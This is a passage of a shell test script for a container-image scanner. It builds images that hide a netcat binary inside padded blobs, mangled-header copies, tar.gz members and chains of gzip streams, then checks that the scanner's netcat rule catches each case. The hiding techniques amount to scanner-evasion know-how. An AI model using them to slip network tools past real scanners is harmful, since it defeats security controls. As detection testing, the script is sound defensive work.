# /bin/ls inside a big file (as the JDK's lib/modules holds programs);
# a program header that claims more bytes than portcullis keeps (64 MiB)
# is a scan-error that says so.
P="$E/prog"
mkdir -p "$P/img"
python3 - "$NC" "$P/nc-noshdr" <<'PY'
import struct, sys
b = bytearray(open(sys.argv[1], "rb").read())
assert b[4] == 2 and b[5] == 1  # ELF64, little-endian
struct.pack_into("<Q", b, 40, 0)  # e_shoff
struct.pack_into("<HHH", b, 58, 0, 0, 0)  # e_shentsize, e_shnum, e_shstrndx
open(sys.argv[2], "wb").write(b)
PY
# (and a copy whose class, byte order and version bytes, e_version and
# e_ehsize say 32 bits, big endian, 0: the kernel reads none of them)
python3 - "$NC" "$P/nc-mangled" <<'PY'
import struct, sys
b = bytearray(open(sys.argv[1], "rb").read())
b[4], b[5], b[6] = 1, 2, 0
struct.pack_into("<I", b, 20, 0)
struct.pack_into("<H", b, 52, 0)
open(sys.argv[2], "wb").write(b)
PY
chmod +x "$P/nc-noshdr" "$P/nc-mangled"
for v in noshdr mangled; do
    "$P/nc-$v" -h 2>&1 | grep -q "Zero-I/O mode" && pass "netcat ($v) runs" || fail "netcat ($v) runs" "it does not"
done
head -c 5242880 /dev/urandom >"$P/pad5"
head -c 65536 /dev/urandom >"$P/pad64k"
cat "$P/pad5" "$NC" "$P/pad64k" >"$P/img/blob.bin"
cat "$P/pad5" "$P/nc-noshdr" "$P/pad64k" >"$P/img/noshdr.bin"
cat "$P/pad5" "$P/nc-mangled" "$P/pad64k" >"$P/img/mangled.bin"
cat "$P/pad64k" "$P/nc-mangled" >"$P/img/mangled-small.bin"
# (the first block is max_file_bytes, 4 MiB: netcat's header 100 bytes
# before its end, its program headers in the next block)
{ head -c 4194204 "$P/pad5"; cat "$NC" "$P/pad64k"; } >"$P/img/straddle.bin"
cat "$P/pad64k" "$NC" "$P/pad5" "$NC" >"$P/img/twice.bin"
cat "$P/pad5" /bin/true "$P/pad64k" /bin/ls "$P/pad64k" >"$P/img/modules"
ncsize=$(stat -c %s "$NC")
tail -c +5242881 "$P/img/blob.bin" | head -c "$ncsize" | cmp -s - "$NC" &&
    pass "tail -c | head -c gives netcat back from the big file" || fail "tail -c | head -c gives netcat back from the big file" "it does not"
# (and blob.bin in a tar.gz over max_file_bytes: the archive streamed,
# its member read in blocks, the program named inside the member)
tar czf "$P/img/blob.tar.gz" -C "$P/img" blob.bin
files_image prog-img "$P/img" 0644 blob.bin noshdr.bin mangled.bin mangled-small.bin straddle.bin twice.bin modules blob.tar.gz
run "programs inside big files denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/prog-img/oci:latest"
for f in blob.bin:5242880 noshdr.bin:5242880 mangled.bin:5242880 mangled-small.bin:65536 straddle.bin:4194204 twice.bin:65536; do
    jq_true "inside ${f%%:*}: netcat as the program at byte ${f#*:}" "[.reports[0].findings[] | select(.path == \"/opt/${f%%:*}\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member (program at byte ${f#*:})\")))] | length == 1"
done
jq_true "in a member read in blocks: netcat named inside it" '[.reports[0].findings[] | select(.path == "/opt/blob.tar.gz" and .rule == "netcat_openbsd" and (.message | endswith("as the archive member blob.bin > (program at byte 5242880)")))] | length == 1'
jq_true "over max_file_bytes: the programs of a modules file are nothing" '[.reports[0].findings[] | select(.path == "/opt/modules")] | length == 0'
# More streams than are kept at once (max_file_bytes + 1 MiB): those
# kept are opened while the file is still read (as NVIDIA's libcublasLt,
# thousands of zstd-compressed kernels), the last one netcat; and netcat
# itself with netcat's stream and those after it: found as the file and
# as the member (opened before the file's own rules are known)
for i in $(seq 1 24); do head -c 262144 /dev/urandom | gzip -1; done >"$P/streams.gz"
gzip -9 -c "$NC" >"$P/nc.gz"
mkdir -p "$P/many"
cat "$P/pad5" "$P/streams.gz" "$P/nc.gz" >"$P/many/many.bin"
cat "$NC" "$P/pad5" "$P/nc.gz" "$P/streams.gz" >"$P/many/self.bin"
manyat=$(( $(stat -c %s "$P/pad5") + $(stat -c %s "$P/streams.gz") ))
selfat=$(( ncsize + $(stat -c %s "$P/pad5") ))
files_image many-img "$P/many" 0755 many.bin self.bin
run "many streams in a big file: denied, not a scan-error" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/many-img/oci:latest"
jq_true "many streams: netcat in the last one" "[.reports[0].findings[] | select(.path == \"/opt/many.bin\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member (at byte $manyat) > (gzip)\")))] | length == 1"
jq_true "many streams after netcat: the file itself" '[.reports[0].findings[] | select(.path == "/opt/self.bin" and .rule == "netcat_openbsd" and (.message | test("archive member") | not))] | length == 1'
jq_true "many streams after netcat: and its first stream" "[.reports[0].findings[] | select(.path == \"/opt/self.bin\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member (at byte $selfat) > (gzip)\")))] | length == 1"
jq_true "many streams: no scan-error" '[.reports[0].findings[] | select(.check == "scan-error")] | length == 0'
# A text file read in blocks with a stream that goes on over blocks and
# holds a base64 run as it is (gzip's stored blocks): the run is kept on
# its own and the stream in one piece, netcat in it after the run and
# after the block's end found
mixedat=$(python3 - "$NC" "$P/mixed/mixed.sh" <<'PY'
import base64, os, sys, zlib
os.makedirs(os.path.dirname(sys.argv[2]), exist_ok=True)
run = base64.b64encode(os.urandom(3000)) + b"\n"
c = zlib.compressobj(0, zlib.DEFLATED, 31)
gz = c.compress(run + os.urandom(1536 << 10) + open(sys.argv[1], "rb").read() + os.urandom(512 << 10)) + c.flush()
head = b"#!/bin/sh\n" + b"# padding\n" * (5 << 17)
open(sys.argv[2], "wb").write(head + gz)
print(len(head))
PY
)
tail -c +$((mixedat + 1)) "$P/mixed/mixed.sh" | gzip -dc 2>/dev/null | tail -c +1576866 | head -c "$ncsize" | cmp -s - "$NC" &&
    pass "the stream in the big script gives netcat back" || fail "the stream in the big script gives netcat back" "it does not"
files_image mixed-img "$P/mixed" 0755 mixed.sh
run "a stream holding a run, in a big script: denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/mixed-img/oci:latest"
jq_true "the stream holding a run: netcat in it" "[.reports[0].findings[] | select(.path == \"/opt/mixed.sh\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member (at byte $mixedat) > (gzip) > (program at byte 1576865)\")))] | length == 1"
python3 - "$P/huge/claims.bin" <<'PY'
import os, struct, sys
os.makedirs(os.path.dirname(sys.argv[1]), exist_ok=True)
h = bytearray(64)
h[0:4] = b"\x7fELF"; h[4] = 2; h[5] = 1; h[6] = 1
struct.pack_into("<HHIQQQIHHHHHH", h, 16, 3, 62, 1, 0, 64, 1 << 40, 0, 64, 56, 1, 64, 1, 0)
ph = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 4096, 4096, 4096)
with open(sys.argv[1], "wb") as f:
    f.write(os.urandom(4096) + h + ph + bytes(70 << 20))
PY
files_image huge-prog-img "$P/huge" 0644 claims.bin
run "a program claiming more than is kept: scan-error" 3 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/huge-prog-img/oci:latest"
jq_true "... which names the file and says why" '[.reports[0].findings[] | select(.check == "scan-error" and (.message | test("file /opt/claims.bin: holds more programs")))] | length == 1'

# benign: Go's own test ELF in base64 (golang-*-src ships it), a long
# base64 run that is no program, a short run of an ELF header
mkdir -p "$E/neg"
python3 - "$E/neg" <<'PY'
import base64, os, sys
d = sys.argv[1]
elf = open("/bin/true", "rb").read()
open(os.path.join(d, "a.elf.base64"), "w").write(base64.encodebytes(elf).decode())
open(os.path.join(d, "blob.json"), "w").write('{"icon": "%s"}\n' % base64.b64encode(bytes(range(256)) * 40).decode())
open(os.path.join(d, "short.txt"), "w").write("magic: %s\n" % base64.b64encode(elf[:40]).decode())
# a manual's example of a uuencoded file, and a body of no program
open(os.path.join(d, "uu.txt"), "w").write("Run uudecode on a file such as:\n\nbegin 644 notes.txt\n" +
    "M" + "86)C9&5F9VAI:FML;6YO<'%R<W1U=G=X>7HP,3(S-#4V-S@Y04)#1$5&1TA)2DM,\n" * 4 + "`\nend\n")
PY
files_image neg-img "$E/neg" 0644 a.elf.base64 blob.json short.txt uu.txt
run "benign base64 allowed" 0 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/neg-img/oci:latest"
